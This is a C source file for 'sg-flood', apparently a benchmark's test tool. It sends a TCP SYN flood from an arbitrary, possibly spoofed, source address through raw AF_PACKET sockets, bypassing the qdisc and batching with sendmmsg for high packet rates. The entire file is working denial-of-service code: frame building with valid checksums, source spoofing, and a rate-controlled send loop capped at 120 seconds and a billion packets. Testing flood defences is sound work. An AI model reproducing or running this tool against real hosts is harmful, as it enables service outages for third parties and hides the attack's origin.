// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * flood.c - sg-flood: a bounded TCP SYN flood from one (spoofed) source,
 * written straight to an interface through AF_PACKET with the qdisc
 * bypassed and sendmmsg batches, for the benchmark's live test.  Frames
 * carry correct checksums, so an unprotected host's stack does the full
 * work of a SYN flood.  Bounded by a packet count and a duration, both
 * required to be finite.  Prints one JSON line: what was sent.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define NFRAMES		1024	/* distinct source ports, cycled */
#define FRAME_LEN	(14 + 40 + 20)	/* room for the IPv6 variant */
#define BATCH_MAX	256
#define MAX_SECONDS	120
#define MAX_COUNT	1000000000UL

static void usage(FILE *f)
{
	fprintf(f,
"Usage: sg-flood -i IFACE --src ADDR --dst ADDR --dst-mac MAC [OPTIONS]\n"
"Sends TCP SYNs from ADDR (any source: the frame is written raw) to ADDR.\n"
"\n"
"  -i, --interface IFACE  send on IFACE (its MAC is the frames' source)\n"
"      --src ADDR         IPv4 or IPv6 source address\n"
"      --dst ADDR         destination address (same family)\n"
"      --dst-mac MAC      destination MAC (aa:bb:cc:dd:ee:ff)\n"
"      --dport PORT       destination port (default 80)\n"
"      --count N          stop after N frames (default 10000000, max %lu)\n"
"      --seconds S        stop after S seconds (default 5, max %d)\n"
"      --pps N            at most N frames per second (default: as fast as possible)\n"
"      --batch N          frames per sendmmsg (default 64, max %d)\n"
"  -h, --help             this help\n", MAX_COUNT, MAX_SECONDS, BATCH_MAX);
}

static uint16_t csum_fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum & 0xffff;
}

static uint32_t csum_add(uint32_t sum, const void *data, size_t len)
{
	const uint8_t *p = data;

	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (p[i] << 8) | p[i + 1];
	if (len & 1)
		sum += p[len - 1] << 8;
	return sum;
}

static void put16(uint8_t *p, uint16_t v) { p[0] = v >> 8; p[1] = v & 0xff; }

/* Builds one SYN frame; returns its length. */
static size_t build(uint8_t *f, const uint8_t *smac, const uint8_t *dmac, int family,
		    const uint8_t *src, const uint8_t *dst, uint16_t sport, uint16_t dport,
		    uint32_t seq)
{
	size_t alen = family == 4 ? 4 : 16, l3 = family == 4 ? 20 : 40;
	uint8_t *ip = f + 14, *th = ip + l3;
	uint32_t sum;

	memset(f, 0, FRAME_LEN);
	memcpy(f, dmac, 6);
	memcpy(f + 6, smac, 6);
	put16(f + 12, family == 4 ? ETH_P_IP : ETH_P_IPV6);
	if (family == 4) {
		ip[0] = 0x45;
		put16(ip + 2, 20 + 20);
		put16(ip + 4, sport);	/* IP ID */
		ip[8] = 64;
		ip[9] = IPPROTO_TCP;
		memcpy(ip + 12, src, 4);
		memcpy(ip + 16, dst, 4);
		put16(ip + 10, csum_fold(csum_add(0, ip, 20)));
	} else {
		ip[0] = 0x60;
		put16(ip + 4, 20);
		ip[6] = IPPROTO_TCP;
		ip[7] = 64;
		memcpy(ip + 8, src, 16);
		memcpy(ip + 24, dst, 16);
	}
	put16(th, sport);
	put16(th + 2, dport);
	th[4] = seq >> 24;
	th[5] = seq >> 16;
	th[6] = seq >> 8;
	th[7] = seq;
	th[12] = 5 << 4;
	th[13] = 0x02;		/* SYN */
	put16(th + 14, 64240);
	/* Pseudo-header: addresses, protocol, TCP length. */
	sum = csum_add(0, src, alen);
	sum = csum_add(sum, dst, alen);
	sum += IPPROTO_TCP + 20;
	sum = csum_add(sum, th, 20);
	put16(th + 16, csum_fold(sum));
	return 14 + l3 + 20;
}

static int parse_mac(const char *s, uint8_t *mac)
{
	unsigned int b[6];

	if (sscanf(s, "%x:%x:%x:%x:%x:%x", &b[0], &b[1], &b[2], &b[3], &b[4], &b[5]) != 6)
		return -1;
	for (int i = 0; i < 6; i++) {
		if (b[i] > 255)
			return -1;
		mac[i] = b[i];
	}
	return 0;
}

static int parse_ul(const char *opt, const char *s, unsigned long max, unsigned long *out)
{
	char *end;

	errno = 0;
	*out = strtoul(s, &end, 10);
	if (errno || end == s || *end || *out == 0 || *out > max || s[0] == '-') {
		fprintf(stderr, "sg-flood: --%s: '%s' is not a number in 1..%lu\n", opt, s, max);
		return -1;
	}
	return 0;
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

enum { OPT_SRC = 256, OPT_DST, OPT_DMAC, OPT_DPORT, OPT_COUNT, OPT_SECONDS, OPT_PPS, OPT_BATCH };

static const struct option opts[] = {
	{ "interface", required_argument, NULL, 'i' },
	{ "src", required_argument, NULL, OPT_SRC },
	{ "dst", required_argument, NULL, OPT_DST },
	{ "dst-mac", required_argument, NULL, OPT_DMAC },
	{ "dport", required_argument, NULL, OPT_DPORT },
	{ "count", required_argument, NULL, OPT_COUNT },
	{ "seconds", required_argument, NULL, OPT_SECONDS },
	{ "pps", required_argument, NULL, OPT_PPS },
	{ "batch", required_argument, NULL, OPT_BATCH },
	{ "help", no_argument, NULL, 'h' },
	{ 0 }
};

static uint8_t frames[NFRAMES][FRAME_LEN];

int main(int argc, char **argv)
{
	const char *ifname = NULL, *src_s = NULL, *dst_s = NULL, *dmac_s = NULL;
	unsigned long dport = 80, count = 10000000, seconds = 5, pps = 0, batch = 64, v;
	uint8_t src[16], dst[16], smac[6], dmac[6];
	struct mmsghdr msgs[BATCH_MAX];
	struct iovec iov[BATCH_MAX];
	struct sockaddr_ll sll = { 0 };
	unsigned long sent = 0, errors = 0;
	int family, fd, one = 1, opt;
	struct ifreq ifr = { 0 };
	double t0, t, end;
	size_t len = 0;

	while ((opt = getopt_long(argc, argv, "i:h", opts, NULL)) != -1) {
		switch (opt) {
		case 'i': ifname = optarg; break;
		case OPT_SRC: src_s = optarg; break;
		case OPT_DST: dst_s = optarg; break;
		case OPT_DMAC: dmac_s = optarg; break;
		case OPT_DPORT:
			if (parse_ul("dport", optarg, 65535, &dport))
				return 2;
			break;
		case OPT_COUNT:
			if (parse_ul("count", optarg, MAX_COUNT, &count))
				return 2;
			break;
		case OPT_SECONDS:
			if (parse_ul("seconds", optarg, MAX_SECONDS, &seconds))
				return 2;
			break;
		case OPT_PPS:
			if (parse_ul("pps", optarg, 100000000, &pps))
				return 2;
			break;
		case OPT_BATCH:
			if (parse_ul("batch", optarg, BATCH_MAX, &v))
				return 2;
			batch = v;
			break;
		case 'h':
			usage(stdout);
			return 0;
		default:
			usage(stderr);
			return 2;
		}
	}
	if (!ifname || !src_s || !dst_s || !dmac_s || optind != argc) {
		usage(stderr);
		return 2;
	}
	if (inet_pton(AF_INET, src_s, src) == 1 && inet_pton(AF_INET, dst_s, dst) == 1) {
		family = 4;
	} else if (inet_pton(AF_INET6, src_s, src) == 1 && inet_pton(AF_INET6, dst_s, dst) == 1) {
		family = 6;
	} else {
		fprintf(stderr, "sg-flood: --src and --dst must be addresses of one family\n");
		return 2;
	}
	if (parse_mac(dmac_s, dmac)) {
		fprintf(stderr, "sg-flood: --dst-mac: '%s' is not a MAC address\n", dmac_s);
		return 2;
	}
	if (strlen(ifname) >= IFNAMSIZ || !(sll.sll_ifindex = if_nametoindex(ifname))) {
		fprintf(stderr, "sg-flood: no interface named '%s'\n", ifname);
		return 2;
	}

	/* Protocol 0: this socket only sends, it never receives a copy. */
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (fd < 0) {
		perror("sg-flood: socket(AF_PACKET)");
		return 1;
	}
	strcpy(ifr.ifr_name, ifname);
	if (ioctl(fd, SIOCGIFHWADDR, &ifr)) {
		perror("sg-flood: SIOCGIFHWADDR");
		return 1;
	}
	memcpy(smac, ifr.ifr_hwaddr.sa_data, 6);
	/* Straight to the driver: the qdisc would be the bottleneck otherwise. */
	if (setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one)))
		perror("sg-flood: PACKET_QDISC_BYPASS (continuing through the qdisc)");
	sll.sll_family = AF_PACKET;
	sll.sll_protocol = 0;
	if (bind(fd, (struct sockaddr *)&sll, sizeof(sll))) {
		perror("sg-flood: bind");
		return 1;
	}

	for (int i = 0; i < NFRAMES; i++)
		len = build(frames[i], smac, dmac, family, src, dst, 1024 + i, dport,
			    0x5eed0000u + i);
	memset(msgs, 0, sizeof(msgs));
	for (unsigned long i = 0; i < batch; i++) {
		iov[i].iov_len = len;
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
	}

	t0 = now_s();
	end = t0 + seconds;
	for (t = t0; sent < count && t < end; t = now_s()) {
		unsigned long n = count - sent < batch ? count - sent : batch;
		int r;

		if (pps && sent > (t - t0) * pps) {
			struct timespec ts = { 0, 200000 };

			nanosleep(&ts, NULL);
			continue;
		}
		for (unsigned long i = 0; i < n; i++)
			iov[i].iov_base = frames[(sent + i) % NFRAMES];
		r = sendmmsg(fd, msgs, n, 0);
		if (r < 0) {
			/* A full device queue: count it and go on. */
			if (errno != ENOBUFS && errno != EAGAIN) {
				perror("sg-flood: sendmmsg");
				return 1;
			}
			errors++;
			continue;
		}
		sent += r;
	}
	t = now_s() - t0;
	printf("{\"sent\":%lu,\"seconds\":%.3f,\"pps\":%.0f,\"send_errors\":%lu,\"family\":%d}\n",
	       sent, t, t > 0 ? sent / t : 0, errors, family);
	close(fd);
	return 0;
}
